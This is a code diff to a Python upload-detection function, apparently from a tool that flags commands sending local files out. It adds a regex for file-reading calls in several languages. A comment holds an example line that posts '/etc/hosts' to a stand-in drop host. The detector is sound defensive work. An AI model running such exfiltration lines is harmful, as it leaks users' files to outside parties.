@@ -218,6 +218,9 @@ def _uploaded(c: Ctx, chat: bool = True) -> str:
         if to and any(file_data(t) for t in operands[1:to + 1]):  # the drop after a source: copied there
             found = worse(found, "copy")
     found = worse(found, _sources_before(texts))
+    for text in texts:  # code given to the program: `requests.post(DROP, files={"f": open("/etc/hosts", "rb")})`
+        for path in _CODE_READ.findall(text) if "(" in text else ():
+            found = worse(found, file_data(path))
     if prog in _HTTPIE and "--ignore-stdin" not in texts:
         stdin = True
     for w in c.args:
@@ -237,6 +240,10 @@ def _uploaded(c: Ctx, chat: bool = True) -> str:
     return found
 
 
+# A file read in code, in any language: Python's open, Ruby's File.read, Node's readFileSync, PHP's
+# file_get_contents, Perl's slurps, .NET's ReadAllBytes, Lua's io.open.
+_CODE_READ = lazy(r"(?:\bopen|File\.(?:read|binread|open)|readFileSync|readFile|file_get_contents|fopen|ReadAll\w+|"
+                  r"io\.open|read_file|slurp|Path)\s*\(\s*[\"']([^\"']+)[\"']")
 _UPLOAD_WORDS = frozenset({"/upload", "-upload", "--upload", "upload", "-post", "/post"})
 _SLASH_VALUE = lazy(r"^/\w+:(.+)$")  # Windows tools' `/out:C:\\x`
 
